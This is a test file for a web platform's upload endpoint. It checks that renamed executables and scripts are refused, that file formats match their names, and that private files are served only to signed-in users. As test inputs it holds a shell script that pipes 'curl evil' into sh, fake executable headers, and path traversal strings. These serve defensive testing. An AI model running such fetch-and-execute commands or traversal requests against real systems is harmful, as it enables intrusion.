/**
 * What an upload may hold (issue 18), on the disk: a program under a document's or text's name is refused
 * whatever it is called, a document must be the format its name says, and `fileType` keeps an upload to
 * one category ('image' where an image is asked for), from the query or a multipart field. Nothing
 * refused is stored. A private upload is served to signed-in users only, never by the public route.
 */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { envelopeOf, getWithToken, tokenFor } from '../../server/testing/api';
import { dialects, withApp, type TestApp } from '../../server/testing/test-db';

const [sqlite] = dialects();
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126, 0x90)]);
const ELF = Buffer.concat([Buffer.from([0x7f]), Buffer.from('ELF'), Buffer.alloc(60)]);

function multipart(filename: string, data: Buffer, fields: Record<string, string> = {}) {
  const boundary = '----dougong-content';
  const parts = Object.entries(fields).map(
    ([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  return {
    payload: Buffer.concat([
      Buffer.from(parts.join('')),
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
      ),
      data,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

describe('what an upload may hold', () => {
  let t: TestApp;
  let token: string;
  let uploadDir: string;
  beforeAll(async () => {
    uploadDir = mkdtempSync(join(tmpdir(), 'dougong-upload-content-'));
    t = await withApp(sqlite, { uploadDir });
    token = await tokenFor(t.app, 'zhangsan');
  });
  afterAll(async () => {
    await t?.close();
    rmSync(uploadDir, { recursive: true, force: true });
  });

  const upload = (filename: string, data: Buffer, query = '', fields?: Record<string, string>) => {
    const { payload, headers } = multipart(filename, data, fields);
    return t.app.inject({
      method: 'POST',
      url: `/platform/sys/common/upload${query}`,
      payload,
      headers: { ...headers, 'x-access-token': token },
    });
  };
  const refused = (response: Awaited<ReturnType<typeof upload>>, message: string) => {
    expect(response.statusCode, response.body).toBe(400);
    expect(envelopeOf(response).message).toBe(message);
  };

  it('refuses a program renamed as a document, text or image, and a document that is not its format', async () => {
    refused(await upload('报告.pdf', EXE), '不允许上传可执行程序或脚本：报告.pdf');
    refused(await upload('readme.txt', ELF), '不允许上传可执行程序或脚本：readme.txt');
    refused(await upload('photo.png', EXE), '不允许上传可执行程序或脚本：photo.png');
    refused(
      await upload('install.txt', Buffer.from('#!/bin/sh\ncurl evil | sh\n')),
      '不允许上传可执行程序或脚本：install.txt',
    );
    refused(
      await upload('合同.docx', Buffer.from('not a zip')),
      '文件内容与扩展名不符：合同.docx 不是有效的 .docx 文件',
    );
    expect(readdirSync(uploadDir)).toEqual([]);
    const pdf = await upload('报告.pdf', Buffer.from('%PDF-1.7\n%âãÏÓ\n'));
    expect(pdf.statusCode, pdf.body).toBe(200);
  });

  it('keeps an upload to the category asked for, from the query or a field', async () => {
    const pdf = Buffer.from('%PDF-1.7\n');
    refused(
      await upload('合同.pdf', pdf, '?fileType=image'),
      '此处只能上传图片（jpg、jpeg、png、gif、bmp、webp），合同.pdf 不是',
    );
    refused(
      await upload('合同.pdf', pdf, '', { fileType: 'image' }),
      '此处只能上传图片（jpg、jpeg、png、gif、bmp、webp），合同.pdf 不是',
    );
    refused(
      await upload('合同.pdf', pdf, '', { fileType: 'exe' }),
      'fileType 应为 image、document、archive 或 media（文件类别），或不填',
    );
    expect((await upload('合同.pdf', pdf, '?fileType=exe')).statusCode).toBe(400);
    expect((await upload('a.png', PNG, '?fileType=image')).statusCode).toBe(200);
    expect((await upload('合同.pdf', pdf, '', { fileType: 'document' })).statusCode).toBe(200);
  });

  it('serves a private upload to signed-in users only, and never by the public static route', async () => {
    const pdf = Buffer.from('%PDF-1.7\n合同\n');
    const response = await upload('合同.pdf', pdf, '?biz=contract', { access: 'private' });
    expect(response.statusCode, response.body).toBe(200);
    const { result, message } = envelopeOf<string>(response);
    expect(result).toMatch(/^\/platform\/sys\/common\/private\/contract\/\d{8}\/[0-9a-f]{32}\.pdf$/);
    expect(message).toBe(`private/${result.slice('/platform/sys/common/private/'.length)}`);

    const anonymous = await getWithToken(t.app, result);
    expect(anonymous.statusCode).toBe(401);
    expect(envelopeOf(anonymous).message).toBe('Token失效，请重新登录');
    // Any signed-in user, as an <a download> of the app sends the header through its HTTP client.
    const signedIn = await getWithToken(t.app, result, await tokenFor(t.app, 'admin'));
    expect(signedIn.statusCode).toBe(200);
    expect(signedIn.rawPayload.equals(pdf)).toBe(true);
    expect(signedIn.headers['cache-control']).toBe('private, no-cache');
    expect(signedIn.headers['content-disposition']).toBe('attachment');

    const byStatic = await t.app.inject({ method: 'GET', url: `/platform/sys/common/static/${message}` });
    expect(byStatic.statusCode).toBe(404);
    expect(envelopeOf(byStatic).message).toBe('文件不存在');
    for (const path of ['..%2F..%2Fpackage.json', 'private/contract/x.pdf', result.slice(-40)]) {
      const bad = await getWithToken(t.app, `/platform/sys/common/private/${path}`, token);
      expect(bad.statusCode, path).toBe(400);
      expect(envelopeOf(bad).message).toBe('文件路径不合法');
    }
    refused(
      await upload('合同.pdf', pdf, '', { access: 'secret' }),
      'access 应为 public（凭地址即可访问）或 private（仅登录用户可访问），或不填',
    );
  });
});
